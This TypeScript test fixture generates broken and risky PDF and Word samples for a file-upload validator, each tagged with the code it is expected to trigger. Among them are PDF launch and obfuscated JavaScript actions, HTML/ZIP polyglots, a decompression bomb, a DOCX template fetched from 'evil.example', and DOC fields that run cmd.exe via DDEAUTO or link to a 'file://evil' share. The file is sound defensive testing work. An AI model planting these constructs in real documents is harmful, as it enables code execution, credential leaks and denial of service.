import { deflateSync } from 'node:zlib';
import { docxParts } from '../../../demo/files/make-docx.ts';
import { makeZip } from '../../../demo/files/make-zip.ts';
import { demoFiles } from '../../../demo/files.ts';
import { assemble } from '../../../shared/outside/pdf/simple-pdf.ts';
import type { BadFile } from './bad-pictures.ts';
import { compressedPdf, guideZip } from './good-files.ts';
import { makeDoc } from './make-doc.ts';

const pdf = (bytes: Uint8Array) => ({ purpose: 'agreement', fileName: 'agreement.pdf', bytes }) as const;
const docx = (bytes: Uint8Array) => ({ purpose: 'test_report', fileName: 'report.docx', bytes }) as const;
const doc = (bytes: Uint8Array) => ({ purpose: 'test_report', fileName: 'report.doc', bytes }) as const;

/** PDF and Word files that are broken or do more than show text. */
export const badDocuments = async (): Promise<BadFile[]> => [
  ...(await closedPdfs()),
  ...(await overfullPdfs()),
  ...badWordFiles(),
  ...badDocs(),
  ...programDocs(),
];

const goodPdf = (): Buffer => Buffer.from(demoFiles.agreement().bytes);

/** PDF files that cannot be read to their end. */
async function closedPdfs(): Promise<BadFile[]> {
  const good = goodPdf();
  return [
    { title: 'a PDF cut in the middle', ...pdf(good.subarray(0, good.length >> 1)), codes: ['truncated'] },
    {
      title: 'a PDF whose table is not where it says',
      ...pdf(Buffer.concat([good.subarray(0, 300), good.subarray(600)])),
      codes: ['truncated'],
    },
    {
      title: 'a PDF that is nothing but its first line',
      ...pdf(Buffer.from('%PDF-1.4\n')),
      codes: ['damaged'],
    },
    {
      title: 'a PDF without pages',
      ...pdf(pdfOf(['<< /Type /Pages /Count 0 /Kids [] >>'])),
      codes: ['no_pages'],
    },
    {
      title: 'a PDF whose pages go in a circle',
      ...pdf(pdfOf(['<< /Type /Pages /Count 1 /Kids [2 0 R] >>'])),
      codes: ['damaged'],
    },
    {
      title: 'an encrypted PDF',
      ...pdf(await compressedPdf((file) => file.encrypt({ userPassword: 'secret' }))),
      codes: ['encrypted'],
    },
    {
      title: 'a PDF that says it is encrypted',
      ...pdf(
        assemble(
          ['<< /Type /Catalog /Pages 2 0 R >>', ...onePage],
          '/Root 1 0 R /#45ncrypt << /Filter /Standard /V 1 >>',
        ),
      ),
      codes: ['encrypted'],
    },
  ];
}

/** PDF files that hold more than a text to be read. */
async function overfullPdfs(): Promise<BadFile[]> {
  const good = goodPdf();
  const html = Buffer.from('<html><script>alert(1)</script></html>');
  return [
    {
      title: 'a PDF with much behind its end',
      ...pdf(Buffer.concat([good, Buffer.from('x'.repeat(4_096))])),
      codes: ['trailing_data'],
    },
    {
      title: 'a PDF with a script',
      ...pdf(await compressedPdf((file) => file.addJavaScript('open', 'app.alert(1)'))),
      codes: ['active_content'],
    },
    {
      title: 'a PDF that starts a program',
      ...pdf(pdfOf(onePage, '/OpenAction << /S /Launch /F (calc.exe) >>')),
      codes: ['active_content'],
    },
    {
      title: 'a PDF that hides how it writes "JavaScript"',
      ...pdf(pdfOf(onePage, '/OpenAction << /S /Java#53cript /JS (x) >>')),
      codes: ['active_content'],
    },
    {
      title: 'a PDF that names its action elsewhere',
      ...pdf(pdfOf([...onePage, '/Launch'], '/OpenAction << /S 4 0 R >>')),
      codes: ['active_content'],
    },
    {
      title: 'a PDF that is a page of HTML as well',
      ...pdf(withComment(good, '<html><script>alert(1)</script>')),
      codes: ['hidden_data'],
    },
    {
      title: 'a PDF with HTML behind its end',
      ...pdf(Buffer.concat([good, html])),
      codes: ['trailing_data'],
    },
    {
      title: 'a PDF that is a ZIP as well',
      ...pdf(Buffer.concat([good, guideZip()])),
      codes: ['hidden_data'],
    },
    {
      title: 'a PDF whose object stream is a bomb',
      ...pdf(pdfOf([...onePage, objectStreamBomb()])),
      codes: ['archive_bomb'],
    },
    {
      title: 'a PDF behind other data',
      ...pdf(Buffer.concat([Buffer.from('<p>'), good])),
      codes: ['type_not_allowed', 'extension_mismatch'],
    },
    { title: 'a ZIP named PDF', ...pdf(guideZip()), codes: ['type_not_allowed', 'extension_mismatch'] },
  ];
}

function badWordFiles(): BadFile[] {
  const report = Buffer.from(demoFiles.report().bytes);
  return [
    {
      title: 'a DOCX cut in the middle',
      ...docx(report.subarray(0, report.length - 200)),
      codes: ['truncated'],
    },
    { title: 'a ZIP named DOCX', ...docx(guideZip()), codes: ['type_not_allowed', 'extension_mismatch'] },
    {
      title: 'a DOCX named ZIP',
      purpose: 'user_guide',
      fileName: 'guide.zip',
      bytes: report,
      codes: ['type_not_allowed', 'extension_mismatch'],
    },
    { title: 'a DOCX named DOC', ...doc(report), codes: ['extension_mismatch', 'content_type_mismatch'] },
    {
      title: 'a DOCX with macros',
      ...docx(changedDocx({ name: 'word/vbaProject.bin', content: 'x' })),
      codes: ['macros'],
    },
    {
      title: 'a DOCX that loads its template from outside',
      ...docx(changedDocx(outsideTemplate)),
      codes: ['external_content'],
    },
    {
      title: 'a DOCX with an XML bomb',
      ...docx(changedDocx({ name: 'word/styles.xml', content: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' })),
      codes: ['active_content'],
    },
    { title: 'a DOCX whose text ends early', ...docx(cutText()), codes: ['truncated'] },
  ];
}

const badDocs = (): BadFile[] => [
  { title: 'a DOC cut in the middle', ...doc(makeDoc().subarray(0, 3000)), codes: ['truncated'] },
  { title: 'an encrypted DOC', ...doc(makeDoc({ encrypted: true })), codes: ['encrypted'] },
  { title: 'a DOC with macros', ...doc(makeDoc({ extraFolder: 'Macros' })), codes: ['macros'] },
  {
    title: 'a DOC with objects',
    ...doc(makeDoc({ extraFolder: 'ObjectPool', full: true })),
    codes: ['macros'],
  },
  {
    title: 'a DOC with an old formula',
    ...doc(makeDoc({ extraFolder: 'Equation Native' })),
    codes: ['macros'],
  },
  {
    title: 'a DOC with a packed program',
    ...doc(makeDoc({ extraFolder: '\x01Ole10Native' })),
    codes: ['macros'],
  },
  { title: 'a DOC whose sectors go in a circle', ...doc(makeDoc({ circle: true })), codes: ['damaged'] },
  {
    title: 'an Excel file named DOC',
    ...doc(makeDoc({ stream: 'Workbook' })),
    codes: ['type_not_allowed'],
  },
];

/** Old Word files with a field that starts or fetches something. */
const programDocs = (): BadFile[] => [
  ...(['latin1', 'utf16le'] as const).flatMap((encoding): BadFile[] => [
    {
      title: `a DOC that starts a program, in ${encoding}`,
      ...field('\x13 DDEAUTO c:\\\\cmd.exe \x14x\x15', encoding),
      codes: ['active_content'],
    },
    {
      title: `a DOC that loads a picture, in ${encoding}`,
      ...field('\x13\x08IF INCLUDEPICTURE "http://a"\x15', encoding),
      codes: ['active_content'],
    },
    {
      title: `a DOC that links to a share, in ${encoding}`,
      ...field('\x13HYPERLINK "file://evil/a" \x01\x14', encoding),
      codes: ['external_content'],
    },
  ]),
  {
    title: 'a DOC that starts a program from an odd place',
    ...doc(makeDoc({ text: Buffer.from('x\x13\0D\0D\0E\0 \0', 'latin1') })),
    codes: ['active_content'],
  },
];

const field = (text: string, encoding: 'latin1' | 'utf16le') =>
  doc(makeDoc({ text: Buffer.from(text, encoding) }));
const onePage = [
  '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
];
const outsideTemplate = {
  name: 'word/_rels/settings.xml.rels',
  content:
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
};

function pdfOf(objects: readonly string[], catalog = ''): Uint8Array {
  return assemble([`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, ...objects], '/Root 1 0 R');
}

function withComment(file: Buffer, comment: string): Buffer {
  return Buffer.concat([file.subarray(0, 9), Buffer.from(`%${comment}\n`), file.subarray(9)]);
}

function objectStreamBomb(): string {
  const data = deflateSync(Buffer.alloc(100 * 1024 * 1024, 0x20)).toString('latin1');
  return `<< /Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`;
}

function changedDocx(part: { name: string; content: string }): Buffer {
  return makeZip([...docxParts('测试报告', ['正文']), part]);
}

function cutText(): Buffer {
  return makeZip(
    docxParts('测试报告', ['正文']).map((part) =>
      part.name === 'word/document.xml' ? { ...part, content: String(part.content).slice(0, -30) } : part,
    ),
  );
}
